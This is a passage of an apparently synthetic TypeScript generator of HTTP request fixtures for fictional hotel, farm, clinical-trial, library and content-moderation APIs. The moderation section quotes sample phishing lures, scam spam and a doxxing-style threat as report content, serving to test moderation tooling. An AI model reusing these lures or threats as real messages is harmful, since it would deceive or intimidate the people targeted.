        `/api/v1/guests?${qs({ q: pick(["o'brien", 'Núñez', 'yamada', 'weiss OR weiß', '+49 30', 'acme.com']), fields: 'name,email,last_stay', 'filter[vip]': pick(['true', 'false']), 'filter[last_stay][gte]': day(), page: int(1, 5) })}`,
        hdr(iss),
      ),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 3. Precision agriculture & farm management
// ---------------------------------------------------------------------------------------------------------------
function agriDomain(): void {
  const iss = 'https://login.fieldwise.example';
  const farm = (): string => `farm_${alnum(8)}`;
  const T: (() => void)[] = [
    () => {
      const lon = fixed(-94.2, -92.9, 5);
      const lat = fixed(41.2, 42.1, 5);
      c('rest-write', 'POST', `/api/v3/farms/${farm()}/fields`, hdr(iss, 'application/json'), {
        name: pick([
          'North 80',
          "Dad's Quarter",
          'Creek Bottom (E)',
          'Pivot #4 – SW',
          'Parcela 12-B',
          'Schlag "Am Weiher"',
        ]),
        crop_year: 2026,
        boundary: {
          type: 'Polygon',
          coordinates: [
            [
              [lon, lat],
              [lon + 0.008, lat],
              [lon + 0.008, lat + 0.006],
              [lon, lat + 0.006],
              [lon, lat],
            ],
          ],
        },
        area: { value: fixed(20, 160, 2), unit: pick(['ac', 'ha']) },
        legal_description: pick([
          'NW 1/4 Sec. 12, T84N, R24W',
          'SE¼ of NE¼, Sec 3-T81N-R25W, 5th P.M.',
          'Flur 7, Flurstück 112/3',
        ]),
        fsa: { farm_no: digits(4), tract: digits(4), clu: int(1, 12) },
      });
    },
    () =>
      c('rest-write', 'POST', `/api/v3/fields/${uuid()}/soil-samples`, hdr(iss, 'application/json'), {
        lab: pick(['Ward Laboratories', 'A&L Great Lakes', 'Agvise']),
        sampled_on: day(),
        depth_cm: pick(['0-15', '0-20', '15-30']),
        results: Array.from({ length: int(2, 4) }, (_, i) => ({
          grid_cell: `G${i + 1}`,
          ph: fixed(5.4, 7.8, 1),
          om_pct: fixed(1.5, 5.2, 1),
          p_ppm: int(8, 60),
          k_ppm: int(90, 320),
          cec: fixed(8, 28, 1),
          no3_n: pick([String(int(3, 40)), '<2', 'N/D']),
        })),
        comment: pick([
          'Cell G3 wet, sampled 2 days later',
          'Bray P1 used (pH < 7.3); Olsen for cells > 7.3',
          '',
        ]),
      }),
    () =>
      c(
        'rest-write',
        'PUT',
        `/api/v3/fields/${uuid()}/prescriptions/${pick(['seed', 'nitrogen', 'lime'])}`,
        hdr(iss, 'application/json'),
        {
          product: pick(['Pioneer P1185AM', 'UAN 32%', 'Ag lime (ECCE 92)', 'DKC62-70RIB']),
          unit: pick(['seeds/ac', 'gal/ac', 'lb/ac', 't/ha']),
          zones: [
            { id: 'Z1', label: 'low (<140 bu)', rate: int(28000, 30000) },
            { id: 'Z2', label: 'mid (140–190)', rate: int(32000, 34000) },
            { id: 'Z3', label: 'high (>190 bu)', rate: int(35000, 37000) },
          ],
          formula: pick([
            'rate = base * (1 + 0.15 * (yield_idx - 1))',
            'N = 1.2 * yield_goal - soil_no3 * 8 - credits',
            'lime_t = (6.5 - ph) * (cec / 10) * 1.1',
          ]),
          export: {
            format: pick(['ISOXML', 'Shapefile', 'JD-Rx']),
            monitor: pick(['GS4 4640', 'CFX 750', 'Precision Planting 20|20']),
          },
        },
      ),
    () => {
      const id = `VIN${alnum(14).toUpperCase()}`;
      const lines = Array.from({ length: int(4, 7) }, () =>
        JSON.stringify({
          machine: id,
          ts: isoMs(),
          lat: fixed(41.2, 42.1, 6),
          lon: fixed(-94.2, -92.9, 6),
          speed_kph: fixed(0, 14, 1),
          engine_rpm: int(800, 2200),
          fuel_rate_lph: fixed(5, 38, 1),
          section_mask: `0b${Array.from({ length: 8 }, () => int(0, 1)).join('')}`,
          dtc: rnd() < 0.1 ? ['SPN 520192 FMI 7'] : [],
        }),
      );
      c(
        'ndjson',
        'POST',
        '/ingest/v1/telemetry',
        hdr(iss, 'application/x-ndjson', { 'user-agent': 'fieldwise-edge/3.4.1 (linux; arm64)' }),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c(
        'rest-get',
        'GET',
        `/api/v3/weather/forecast?${qs({ lat: fixed(41.2, 42.1, 4), lon: fixed(-94.2, -92.9, 4), hours: pick([48, 72, 168]), fields: 'precip_mm,gdd_base50,et0,wind_kph,delta_t', units: pick(['metric', 'imperial']) })}`,
        hdr(iss),
      ),
    () =>
      c('rest-write', 'POST', `/api/v3/fields/${uuid()}/applications`, hdr(iss, 'application/json'), {
        type: 'spray',
        applied_at: iso(),
        applicator: { name: pick(NAMES), license: `IA-${digits(6)}` },
        tank_mix: [
          {
            product: pick(['2,4-D Amine 4', 'Roundup PowerMAX® 3', 'Liberty® 280 SL', 'Dicamba (Engenia)']),
            epa_reg: `${digits(3)}-${digits(3)}`,
            rate: `${fixed(0.5, 2, 2)} pt/ac`,
          },
          { product: 'AMS 17 lb/100 gal', rate: '2.5% v/v' },
        ],
        conditions: {
          wind: `${int(2, 9)} mph ${pick(['NW', 'S', 'SSE'])}`,
          temp_f: int(55, 88),
          inversion_risk: pick(['low', 'moderate']),
        },
        notes: pick([
          "Buffer 30' from creek per label; nozzles TTI 11004",
          'Drift complaint from neighbour (Schmidt) – photos attached in portal',
          '',
        ]),
      }),
    () => {
      const csv = `sample_id,lat,lon,ph,om,p,k\n${Array.from({ length: 4 }, (_, i) => `S${i + 1},${fixed(41.2, 42.1, 6)},${fixed(-94.2, -92.9, 6)},${fixed(5.5, 7.5, 1)},${fixed(2, 5, 1)},${int(10, 50)},${int(100, 300)}`).join('\n')}\n`;
      const m = multipart([
        {
          name: 'file',
          filename: pick(['soil_2026_fall.csv', 'Grid Samples (final).csv']),
          type: 'text/csv',
          value: csv,
        },
        { name: 'field_id', value: uuid() },
        { name: 'crs', value: 'EPSG:4326' },
      ]);
      c('multipart', 'POST', '/api/v3/imports/soil', hdr(iss, m.ct), m.body);
    },
    () =>
      c('prose', 'POST', `/api/v3/fields/${uuid()}/scouting-notes`, hdr(iss, 'application/json'), {
        observed_at: iso(),
        location: { lat: fixed(41.2, 42.1, 6), lon: fixed(-94.2, -92.9, 6) },
        text: pick([
          'Tar spot confirmed on ear leaf in ~30% of plants, NE corner. Rec: fungicide (Veltyma 7 oz) if forecast stays humid > 3 days.',
          'Presença de lagarta-do-cartucho (Spodoptera frugiperda) acima do nível de controle: 20% de plantas com folhas raspadas.',
          'Waterhemp escapes after pre — probably PPO-resistant; sample sent to U of I lab (ticket #W-2231).',
          'Посіви озимої пшениці в доброму стані, кущіння 3–4 пагони; шкідників не виявлено.',
          'Hail 10/14 — stand count 27.5k → 24k in low spot; insurance adjuster visit scheduled Thu 9am.',
          'Rodales de Sorghum halepense en la cabecera sur; aplicar haloxyfop antes de la siembra.',
        ]),
        growth_stage: pick(['V6', 'R2', 'VT', 'Z31', 'R5.5']),
        photos: [`s3://fieldwise-uploads/scouting/${uuid()}.heic`],
      }),
    () =>
      c('code', 'POST', '/api/v3/analytics/scripts', hdr(iss, 'application/json'), {
        name: pick(['yield-cleaning', 'ndvi-zones', 'profit-map']),
        script: {
          language: pick(['r', 'python']),
          source: pick([
            "library(sf); library(dplyr)\ny <- st_read('yield_2026.shp') %>%\n  filter(Yld_Vol_Dr > 0, Speed_mph < 7.5) %>%\n  mutate(yld = Yld_Vol_Dr * (1 - (Moisture - 15.5) / 100))\nsummary(y$yld)",
            "import rasterio, numpy as np\nwith rasterio.open('S2_2026-08-01.tif') as src:\n    red, nir = src.read(4).astype('f4'), src.read(8).astype('f4')\nndvi = np.where((nir + red) == 0, 0, (nir - red) / (nir + red))\nzones = np.digitize(ndvi, [0.45, 0.65])",
          ]),
        },
      }),
    () =>
      c('rest-write', 'POST', '/api/v3/sheets/yield-budget/cells', hdr(iss, 'application/json'), {
        sheet: 'Budget 2026',
        cells: [
          { ref: 'D4', formula: '=IF(B4>0, C4/B4, "")' },
          { ref: 'E4', formula: '=SUMIFS(Costs!C:C, Costs!A:A, A4, Costs!B:B, ">="&DATE(2026,1,1))' },
          { ref: 'F4', formula: '=ROUND(D4*$H$1-E4, 2)' },
          { ref: 'G4', value: pick(['$4.12/bu (Dec futures –0.35 basis)', 'n/a', '@ elevator']) },
        ],
      }),
    () =>
      c('json-patch', 'PATCH', `/api/v3/fields/${uuid()}`, hdr(iss, 'application/json-patch+json'), [
        { op: 'replace', path: '/crop_plan/2026/crop', value: pick(['corn', 'soybeans', 'winter wheat']) },
        { op: 'add', path: '/tags/-', value: pick(['tile-drained', 'organic-transition', 'CRP-adjacent']) },
        { op: 'remove', path: '/crop_plan/2025/notes' },
      ]),
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'FieldSummary',
          'query FieldSummary($farmId: ID!, $year: Int!) {\n  farm(id: $farmId) {\n    name\n    fields(cropYear: $year) { id name areaAc crop yieldAvg(unit: BU_PER_AC) lastApplication { product appliedAt } }\n  }\n}',
          { farmId: farm(), year: 2026 },
        ),
      ),
    () =>
      c('rest-write', 'PUT', `/api/v3/irrigation/pivots/${int(1, 9)}/rules`, hdr(iss, 'application/json'), {
        rules: [
          { when: 'soil_moisture_pct < 22 && forecast_rain_mm_48h < 5', do: { run_zone: 3, minutes: 45 } },
          { when: "time >= '21:00' || wind_kph > 25", do: { action: 'pause' } },
        ],
        enabled: true,
      }),
    () =>
      c(
        'search',
        'GET',
        `/api/v3/search?${qs({ q: pick(['tar spot', 'pivot 4', "Dad's Quarter", 'UAN 32%', 'seed > 34000']), type: pick(['notes', 'fields', 'products']), 'crop[]': 'corn', planted_after: day(), sort: '-updated_at' })}`,
        hdr(iss),
      ),
    () => c('delete', 'DELETE', `/api/v3/fields/${uuid()}/scouting-notes/${uuid()}`, hdr(iss)),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 4. Clinical trials / research pharmacy
// ---------------------------------------------------------------------------------------------------------------
function trialsDomain(): void {
  const iss = 'https://sso.trialrx.example';
  const study = (): string => pick(['ONC-2024-117', 'CARD-301', 'NEURO-PH2-08', 'RSV-VAX-22']);
  const subj = (): string => `${pick(['101', '204', '317'])}-${digits(4)}`;
  const T: (() => void)[] = [
    () =>
      c(
        'rest-write',
        'POST',
        '/fhir/r4/MedicationDispense',
        hdr(iss, 'application/fhir+json', { accept: 'application/fhir+json' }),
        {
          resourceType: 'MedicationDispense',
          status: 'completed',
          medicationCodeableConcept: {
            coding: [
              {
                system: 'http://www.nlm.nih.gov/research/umls/rxnorm',
                code: digits(6),
                display: pick([
                  'IMP-4417 10 mg tablet',
                  'Placebo matching IMP-4417',
                  'Pembrolizumab 25 mg/mL inj',
                ]),
              },
            ],
          },
          subject: { reference: `Patient/${subj()}` },
          quantity: { value: int(14, 90), unit: 'tablet' },
          whenHandedOver: iso(),
          note: [
            {
              text: pick([
                'Kit #A-2291 (blinded); IRT confirmation 88231-X',
                'Dispensed in amber bottle; keep at 2–8 °C',
                'Returned 3 tabs from prior visit → compliance 95%',
              ]),
            },
          ],
          extension: [
            {
              url: 'https://trialrx.example/fhir/StructureDefinition/kit-number',
              valueString: `K${digits(6)}`,
            },
          ],
        },
      ),
    () =>
      c(
        'rest-get',
        'GET',
        `/fhir/r4/Observation?${qs({ subject: `Patient/${subj()}`, code: 'http://loinc.org|1742-6,http://loinc.org|1920-8', date: `ge${day()}`, _sort: '-date', _count: 50, _include: 'Observation:performer' })}`,
        hdr(iss, undefined, { accept: 'application/fhir+json' }),
      ),
    () =>
      c(
        'rest-write',
        'POST',
        `/api/studies/${study()}/randomization`,
        hdr(iss, 'application/json', { 'idempotency-key': uuid() }),
        {
          subject_id: subj(),
          site: pick(['US-014', 'DE-003', 'JP-007']),
          stratification: {
            ecog: pick(['0', '1']),
            region: pick(['NA', 'EU', 'APAC']),
            prior_lines: pick(['<=1', '>=2']),
          },
          eligibility_confirmed_by: pick(NAMES),
          signature: {
            meaning: 'I confirm eligibility per protocol v4.1 §5.1–5.2',
            at: iso(),
            method: 'password+otp',
          },
        },
      ),
    () =>
      c('prose', 'POST', `/api/studies/${study()}/adverse-events`, hdr(iss, 'application/json'), {
        subject_id: subj(),
        term: pick([
          'Nausea',
          'ALT increased',
          'Infusion-related reaction',
          'Rash maculo-papular',
          'Neutrophil count decreased',
        ]),
        ctcae_grade: int(1, 4),
        serious: rnd() < 0.2,
        onset: day(),
        narrative: pick([
          'Subject (58 y/o F) presented on C2D8 with grade 3 ALT elevation (ALT 212 U/L, >5×ULN; AST 160 U/L). Bilirubin normal (<1.2 mg/dL). Study drug held per §8.3; recheck in 72 h.',
          'Within 15 min of infusion start: flushing, SBP 88/50 mmHg, SpO2 92% on RA. Infusion stopped; diphenhydramine 50 mg IV + hydrocortisone 100 mg IV given. Resolved < 1 h. Re-challenge at 50% rate per investigator.',
          'Patient reports "mild nausea after each dose, worse in AM". No vomiting. Ondansetron 8 mg PRN started. Causality: possibly related.',
          'Paciente refiere exantema pruriginoso en tronco desde el día 12; sin fiebre. Se indica cetirizina 10 mg/día. Relación con el fármaco: probable.',
          'Neutrophils 0.8 × 10^9/L (grade 3) on D15; no fever. Dose reduced to level -1 (from 10 mg to 7.5 mg) as per table 6.',
        ]),
        meddra: { pt_code: digits(8), llt: pick(['Alanine aminotransferase increased', 'Nausea']) },
      }),
    () =>
      c('rest-write', 'POST', `/api/edc/queries`, hdr(iss, 'application/json'), {
        study: study(),
        form: pick(['LAB_CHEM', 'VS', 'CONMED', 'AE']),
        field: pick(['ALT_RES', 'SYSBP', 'CMDOSE', 'AESTDAT']),
        subject_id: subj(),
        text: pick([
          "Value 'ND' entered for ALT result. Please enter a numeric value or mark 'Not Done' with reason.",
          'SBP = 300 mmHg appears out of range (expected 70–220). Please verify against source.',
          'Dose "1/2 tab bid" — please record as numeric mg and frequency code (e.g. 5 mg, BID).',
          'AE start date (2026-11-31) is not a valid date. Please correct.',
          'Con-med "Tylenol #3" — please specify generic name (acetaminophen/codeine 300/30 mg).',
        ]),
        response:
          rnd() < 0.4
            ? pick([
                'Source verified; value corrected to 30.',
                'Patient took 0.5 × 10 mg = 5 mg BID; updated.',
                'Data entry error, fixed. -- CRC',
              ])
            : null,
      }),
    () =>
      c(
        'code',
        'PUT',
        `/api/edc/studies/${study()}/edit-checks/${pick(['EC_AGE', 'EC_LAB_ALT', 'EC_VISIT_WINDOW'])}`,
        hdr(iss, 'application/json'),
        {
          description: 'Fires query when value out of protocol range',
          expression: pick([
            "IF (AGE < 18 OR AGE > 75) AND ENRLFL = 'Y' THEN RAISE QUERY 'Age out of inclusion range (18–75)'",
            "if (ALT_RES > 3 * ALT_ULN && BILI_RES > 2 * BILI_ULN) { query('Potential Hy\\'s law case – notify medical monitor'); }",
            'abs(datediff(VISDAT, RANDDAT) - VISIT_DAY) > WINDOW ? query("Visit out of window: " + VISIT_NAME) : null',
          ]),
          sas: pick([
            '',
            "proc sql; select usubjid, lbstresn from lb where lbtestcd = 'ALT' and lbstresn > 3*lbstnrhi; quit;",
          ]),
          active: true,
        },
      ),
    () => {
      const lines = Array.from({ length: int(4, 6) }, () =>
        JSON.stringify({
          logger: `TL-${digits(5)}`,
          location: pick(['Pharmacy fridge 2', 'Freezer -80 #1', 'Ambient store']),
          ts: isoMs(),
          temp_c: fixed(1.6, 8.9, 2),
          alarm: rnd() < 0.15 ? 'HIGH >8.0°C' : null,
        }),
      );
      c(
        'ndjson',
        'POST',
        '/api/pharmacy/temperature-logs',
        hdr(iss, 'application/x-ndjson', { 'user-agent': 'ELPRO-LIBERO-Gateway/2.8' }),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c(
        'cms-html',
        'PUT',
        `/api/studies/${study()}/documents/pharmacy-manual/sections/${int(1, 12)}`,
        hdr(iss, 'application/json'),
        {
          title: pick(['5.2 Preparation of IMP', '7. Temperature Excursions', '3.4 Blinding']),
          content_html: pick([
            '<h2>5.2 Preparation</h2><ol><li>Withdraw <strong>the calculated volume</strong> (dose in mg ÷ 25 mg/mL) using a 0.2&nbsp;µm in-line filter.</li><li>Dilute in 0.9% NaCl to a final concentration of 1–10 mg/mL.</li></ol><p class="warning">Do <u>not</u> shake. Infuse over 30 min &plusmn; 10 min.</p>',
            '<h2>Temperature excursions</h2><p>If the logger shows &gt; 8&nbsp;°C for &gt; 30 minutes, <em>quarantine</em> the kits and contact the sponsor via <a href="mailto:ct-supply@sponsor.example?subject=Excursion%20report">ct-supply@sponsor.example</a>.</p><table><tr><th>Range</th><th>Action</th></tr><tr><td>8–15 °C &le; 24 h</td><td>Use after sponsor approval</td></tr></table>',
          ]),
          version: `4.${int(0, 3)}`,
        },
      ),
    () => {
      const m = multipart([
        {
          name: 'metadata',
          type: 'application/json',
          value: JSON.stringify({
            study: study(),
            doc_type: pick(['delegation-log', 'cv', 'gcp-certificate']),
            site: 'US-014',
          }),
        },
        {
          name: 'file',
          filename: pick(['Delegation Log (signed) 2026-10.pdf', 'CV_Dr_Núñez.pdf', 'GCP_cert.pdf']),
          type: 'application/pdf',
          value: `%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n% ${alnum(40)}\n%%EOF`,
        },
      ]);
      c('multipart', 'POST', '/api/etmf/uploads', hdr(iss, m.ct), m.body);
    },
    () =>
      c('json-patch', 'PATCH', `/api/pharmacy/kits/K${digits(6)}`, hdr(iss, 'application/json-patch+json'), [
        { op: 'test', path: '/status', value: 'available' },
        { op: 'replace', path: '/status', value: pick(['quarantined', 'dispensed', 'destroyed']) },
        {
          op: 'add',
          path: '/history/-',
          value: {
            at: iso(),
            by: pick(NAMES),
            reason: pick(['Excursion 9.1 °C / 42 min', 'Dispensed V3', 'Expired (exp. 2026-09)']),
          },
        },
      ]),
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'SiteInventory',
          'query SiteInventory($site: String!, $study: String!, $expiringBefore: Date) {\n  inventory(site: $site, study: $study, filter: { expiringBefore: $expiringBefore, status: [AVAILABLE, QUARANTINED] }) {\n    kitNumber lot expiry status\n  }\n}',
          { site: 'US-014', study: study(), expiringBefore: day() },
        ),
      ),
    () =>
      c(
        'form',
        'POST',
        '/oauth2/token',
        {
          'user-agent': 'TrialRx-Integration/1.9',
          'content-type': 'application/x-www-form-urlencoded',
          accept: 'application/json',
        },
        form({
          grant_type: 'client_credentials',
          client_id: `irt-${alnum(8)}`,
          client_secret: alnum(32),
          scope: 'dispense:write kits:read',
        }),
      ),
    () =>
      c(
        'delete',
        'DELETE',
        `/api/edc/queries/${digits(7)}?${qs({ reason: pick(['raised in error', 'duplicate of #1182733']) })}`,
        hdr(iss),
      ),
    () =>
      c(
        'search',
        'GET',
        `/api/studies?${qs({ q: pick(['NSCLC PD-L1 ≥50%', 'RSV older adults', 'heart failure HFpEF', 'Alzheimer\'s "early onset"']), phase: pick(['2', '3', '2|3']), status: 'recruiting', 'age[gte]': 18, sort: 'start_date' })}`,
        hdr(iss),
      ),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 5. Public library catalog & holds
// ---------------------------------------------------------------------------------------------------------------
function libraryDomain(): void {
  const iss = 'https://accounts.citylibrary.example';
  const TITLES = [
    'The Left Hand of Darkness',
    'Cien años de soledad',
    'Der Zauberberg',
    'ノルウェイの森',
    'The C Programming Language (2nd ed.)',
    'SQL Antipatterns: Avoiding the Pitfalls of Database Programming',
    "Harry Potter and the Philosopher's Stone",
    'Kafka on the Shore',
    'Select Poems / Wybór wierszy',
    'Where the Wild Things Are',
    'Learning the bash Shell: Unix Shell Programming',
  ];
  const T: (() => void)[] = [
    () =>
      c(
        'search',
        'GET',
        `/api/catalog/search?${qs({ q: pick(['title:"left hand of darkness" AND author:le guin', 'murakami NOT "kafka"', 'subject:(climate change) AND year:[2015 TO 2026]', 'isbn:9780131103627', 'márquez soledad', 'bash OR shell scripting', 'dinosaurs juvenile', "o'brien tim"]), format: pick(['book', 'ebook', 'audiobook', 'dvd']), available_at: pick(['MAIN', 'BR-EAST', 'any']), page: int(1, 4), facet: 'language,format' })}`,
        hdr(iss),
      ),
    () =>
      c(
        'rest-get',
        'GET',
        `/sru?${qs({ version: '1.2', operation: 'searchRetrieve', query: pick(['dc.title any "war peace" and dc.date > 1990', 'bath.isbn = 9780262033848', 'dc.creator = "Tolkien, J. R. R." sortBy dc.date/descending', 'cql.serverChoice all "open source software"']), maximumRecords: 20, recordSchema: 'marcxml' })}`,
        hdr(iss, undefined, { accept: 'application/xml' }),
      ),
    () =>
      c('rest-write', 'POST', '/api/patrons/me/holds', hdr(iss, 'application/json'), {
        bib_id: `b${digits(7)}`,
        title: pick(TITLES),
        pickup_location: pick(['MAIN', 'BR-EAST', 'BR-NORTH', 'LOCKER-07']),
        not_needed_after: day(),
        notify: { sms: `+1${digits(10)}`, email: pick(EMAILS) },
        note: pick([
          '',
          'Large print if available',
          'Any edition is fine',
          'Für meine Mutter – bitte deutsche Ausgabe',
        ]),
      }),
    () =>
      c('merge-patch', 'PATCH', '/api/patrons/me', hdr(iss, 'application/merge-patch+json'), {
        preferred_name: pick(NAMES),
        address: {
          line1: pick(['12 Elm St Apt 3', '221B Baker St', 'Av. Paulista, 1578 – Bela Vista']),
          postal_code: pick(['50309', 'NW1 6XE', '01310-200']),
        },
        reading_history: pick(['keep', 'off']),
        notices: { overdue: 'email', hold_ready: pick(['sms', 'email', 'app']) },
        secondary_email: null,
      }),
    () =>
      c('rest-write', 'PUT', `/api/cataloging/records/${digits(8)}`, hdr(iss, 'application/json'), {
        leader: '01142cam  2200301 a 4500',
        fields: [
          { '001': `ocm${digits(8)}` },
          { '020': { ind1: ' ', ind2: ' ', subfields: [{ a: '9780131103627 (pbk.)' }] } },
          { '100': { ind1: '1', ind2: ' ', subfields: [{ a: 'Kernighan, Brian W.' }, { e: 'author.' }] } },
          {
            '245': {
              ind1: '1',
              ind2: '4',
              subfields: [
                { a: 'The C programming language /' },
                { c: 'Brian W. Kernighan, Dennis M. Ritchie.' },
              ],
            },
          },
          { '250': { ind1: ' ', ind2: ' ', subfields: [{ a: '2nd ed.' }] } },
          { '500': { ind1: ' ', ind2: ' ', subfields: [{ a: 'Includes index. "ANSI C"--Cover.' }] } },
          { '650': { ind1: ' ', ind2: '0', subfields: [{ a: 'C (Computer program language)' }] } },
        ],
      }),
    () =>
      c('prose', 'POST', `/api/catalog/bibs/b${digits(7)}/reviews`, hdr(iss, 'application/json'), {
        stars: int(2, 5),
        body: pick([
          'Read this for book club. The first 100 pages drag, but the ending — wow. Content warning: war violence, suicide.',
          'Una obra maestra. Macondo se siente real; recomiendo leer con el árbol genealógico a mano.',
          'Das Hörbuch ist großartig gelesen, aber CD 7 hatte einen Kratzer (Track 4 springt). Bitte prüfen!',
          'Great for beginners, though examples use `gets()` which you should never use today. Chapter 5 on pointers is gold.',
          'My 6-year-old asked for it 3 nights in a row. "Let the wild rumpus start!" 🦖',
          '村上春樹の作品の中で一番好きです。翻訳版も読みましたが、原文の方が雰囲気があります。',
        ]),
        spoilers: rnd() < 0.2,
      }),
    () =>
      c('cms-html', 'PUT', `/api/cms/lists/${alnum(6)}`, hdr(iss, 'application/json'), {
        list: {
          title: pick(['Staff Picks: Cozy Mysteries 🍂', 'Banned Books Week 2026', 'Lire en français']),
          description_html: pick([
            '<p>Our librarians picked these <strong>cozy mysteries</strong> for long autumn nights. Place a hold with one click &mdash; or visit the <a href="/locations/main">Main Library</a>, 2nd floor.</p><ul><li><em>The Thursday Murder Club</em> &ndash; Richard Osman</li><li><em>Still Life</em> &ndash; Louise Penny</li></ul>',
            '<p>Celebrate the freedom to read. <img src="/img/bbw-2026.png" alt="Banned Books Week logo" width="120" height="120"> Programs run <time datetime="2026-10-04">Oct 4</time>–<time datetime="2026-10-10">Oct 10</time>.</p><blockquote cite="https://www.ala.org">Censorship reflects a society\'s lack of confidence in itself.</blockquote>',
          ]),
        },
      }),
    () =>
      c(
        'form',
        'POST',
        '/opac/renew',
        {
          'user-agent': pick(UAS.slice(0, 4)),
          accept: 'text/html',
          'content-type': 'application/x-www-form-urlencoded',
          cookie: `OPACSESSID=${hex(32)}`,
          referer: 'https://catalog.citylibrary.example/opac/account',
        },
        `${['item', 'item', 'item'].map(() => `renew_item=${digits(14)}`).join('&')}&borrowernumber=${digits(6)}&from=opac_user&csrf_token=${alnum(40)}`,
      ),
    () => {
      const lines = Array.from({ length: int(4, 6) }, () =>
        JSON.stringify({
          event: pick(['checkout', 'checkin', 'renew', 'hold_filled']),
          item: digits(14),
          patron_hash: hex(16),
          branch: pick(['MAIN', 'BR-EAST']),
          at: isoMs(),
          due: rnd() < 0.5 ? day() : null,
        }),
      );
      c(
        'ndjson',
        'POST',
        '/api/analytics/circulation:ingest',
        hdr(iss, 'application/x-ndjson'),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c('code', 'POST', '/api/reports/saved', hdr(iss, 'application/json'), {
        name: pick([
          'Lost items by branch',
          'Holds ratio > 4:1 (buy more copies)',
          'Patrons expiring next 30 days',
        ]),
        report: {
          sql: pick([
            'SELECT b.title, i.barcode, i.homebranch, i.itemlost_on\nFROM items i\nLEFT JOIN biblio b USING (biblionumber)\nWHERE i.itemlost = 1 AND i.homebranch = <<Branch|branches>>\nORDER BY i.itemlost_on DESC',
            'SELECT biblionumber, COUNT(reserve_id) AS holds, (SELECT COUNT(*) FROM items WHERE items.biblionumber = r.biblionumber) AS copies\nFROM reserves r GROUP BY biblionumber HAVING holds / GREATEST(copies, 1) > 4',
            'select cardnumber, surname, dateexpiry from borrowers where dateexpiry between curdate() and date_add(curdate(), interval 30 day)',
          ]),
          group: 'CIRC',
        },
      }),
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'MyAccount',
          'query MyAccount {\n  me {\n    checkouts { title dueDate renewable renewalsLeft }\n    holds { title status position pickupLocation { name } }\n    fines { amount reason }\n  }\n}',
          {},
        ),
      ),
    () =>
      c(
        'graphql',
        'GET',
        gqlGet('/graphql', 'BibAvailability', { bibId: `b${digits(7)}`, branches: ['MAIN', 'BR-EAST'] }),
        hdr(iss),
      ),
    () => c('delete', 'DELETE', `/api/patrons/me/holds/${digits(7)}`, hdr(iss)),
    () =>
      c('json-patch', 'PATCH', `/api/patrons/me/lists/${alnum(6)}`, hdr(iss, 'application/json-patch+json'), [
        {
          op: 'add',
          path: '/items/-',
          value: { bib_id: `b${digits(7)}`, note: pick(['for the trip', 'recommended by Ana', '']) },
        },
        { op: 'move', from: '/items/3', path: '/items/0' },
        { op: 'replace', path: '/name', value: pick(['To read (2027)', 'Kids — bedtime', 'Ψυχολογία']) },
      ]),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 6. Social-media content-moderation queue
// ---------------------------------------------------------------------------------------------------------------
function moderationDomain(): void {
  const iss = 'https://auth.trustsafety.example';
  const QUOTED = [
    '🔥🔥 FREE V-BUCKS 🔥🔥 go to hxxp://free-vbux[.]top/claim?ref=8812 and enter ur login!!! limited time',
    'You people are all idiots, I hope your house burns down. I know where you live (Elm St) 😡',
    'DM me for cheap followers 10k = $5 💯 t.me/growfast_bot',
    'Ｃｈｅｃｋ ｍｙ ｂｉｏ 😘😘 link in bio 👉 onlyf4ns dot com slash ...',
    'ATTENTION: your account will be suspended. Verify now: https://secure-login-verify.example-support.co/auth?u=',
    'He said "<3 you" and then blocked me lol',
    'ｗｗｗ．ｂｅｔ３６５ｘ．ｃｃ 注册送888元 💰💰💰 稳赚不赔',
    'this is literally the same post as yesterday >>>>> copy paste bot',
    'Zalgo spam: H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘ ̶̧̨̱̹̭̯ͧ̾ͬC̷̙̲̝͖ͭ̏ͥͮ͟Oͮ͏̮̪̝͍M̲̖͊̒ͪͩͬ̚̚͜Ȇ̴̟̟͙̞ͩ͌͝S̨̥̫͎̭ͯ̿̔̀ͅ',
    'Selling my account (lvl 80, 3 skins) — payment via gift cards only, no PayPal',
    'Kauft nicht bei denen, die sind alle Betrüger!!! Beweis: siehe Screenshot',
    'mirá este video jajaja 👉 bit.ly/3xQ9z (no es virus lo juro)',
  ];
  const NOTES = [
    'Clear spam (template matches campaign #SPAM-2231). Removing + strike 1.',
    'Borderline: insult but no credible threat? Address mention ("Elm St") pushes it to doxxing → escalate to T2.',
    'Phishing domain registered 3 days ago (whois). Added to blocklist; URL defanged in quote.',
    'Not violating — sarcasm between friends, both accounts follow each other. Dismiss.',
    'Coordinated: 40+ accounts posted identical text within 5 min. Linking to cluster CL-88.',
    'Idioma: español rioplatense. Enlace acortado lleva a descarga de APK → malware. Eliminar.',
    'Reporter appears to be brigading (12 reports in 1 min from new accounts). Low confidence.',
  ];
  const T: (() => void)[] = [
    () =>
      c(
        'rest-write',
        'POST',
        '/api/v1/reports',
        hdr(iss, 'application/json', {
          'user-agent': pick([
            'Chirp/9.41 (iPhone; iOS 18.1)',
            'Chirp/9.40 (Android 15; Pixel 8)',
            UAS[0] as string,
          ]),
        }),
        {
          target: { type: pick(['post', 'comment', 'dm', 'profile']), id: digits(18) },
          reason: pick(['spam', 'harassment', 'scam', 'hate', 'impersonation', 'other']),
          details: pick([
            'this account keeps posting the same scam link',
            'Er beleidigt mich seit Wochen',
            'impersonating our brand @acme_official',
            'ver captura',
            '',
          ]),
          quoted_content: pick(QUOTED),
          client_context: {
            app_version: `9.${int(30, 41)}.${int(0, 9)}`,
